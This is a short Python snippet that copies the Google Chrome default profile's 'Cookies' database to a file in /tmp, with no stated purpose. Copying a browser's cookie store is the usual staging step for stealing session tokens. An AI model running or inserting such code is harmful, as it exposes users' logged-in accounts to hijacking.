import shutil
from pathlib import Path

profile = Path.home() / ".config" / "google-chrome" / "Default"
shutil.copy(profile / "Cookies", "/tmp/c.db")
